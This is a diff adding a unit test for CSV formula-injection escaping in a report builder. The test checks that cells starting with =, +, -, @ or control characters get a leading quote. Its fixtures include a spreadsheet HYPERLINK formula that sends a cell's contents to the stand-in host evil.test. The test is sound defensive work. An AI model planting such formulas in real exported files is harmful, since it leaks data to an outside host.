@@ -55,6 +55,18 @@ describe('buildReport', () => {
     expect(rows[2][CSV_COLUMNS.indexOf('note')]).toBe('called, | confirmed');
   });
 
+  it('CSV cells that a spreadsheet would run as a formula start with a single quote', () => {
+    expect(csvField('=HYPERLINK("http://evil.test/?x="&A1,"details")')).toBe(`"'=HYPERLINK(""http://evil.test/?x=""&A1,""details"")"`);
+    for (const start of ['=', '+', '-', '@']) expect(csvField(`${start}1+1`)).toBe(`'${start}1+1`);
+    expect(csvField('\t=1+1')).toBe(`'\t=1+1`);
+    expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`);
+    expect(csvField('a=1')).toBe('a=1');
+    const skipped = [...events.slice(0, 1), base(8, 'party.skipped', { party: 'boss', reason: '=HYPERLINK("http://evil.test","x")' })];
+    const rows = parseCsv(reportCsv(buildReport(map!, 'p', skipped, { log: 'log', now: new Date() })));
+    const row = rows.find((r) => r[CSV_COLUMNS.indexOf('status')] === 'skipped')!;
+    expect(row[CSV_COLUMNS.indexOf('note')]).toBe(`'=HYPERLINK("http://evil.test","x")`);
+  });
+
   it('Markdown cells never break the table', () => {
     expect(mdCell('a | b\nc <x>')).toBe('a \\| b c &lt;x&gt;');
     const md = reportMarkdown(buildReport(map!, 'p', events, { log: 'log', now: new Date() }));
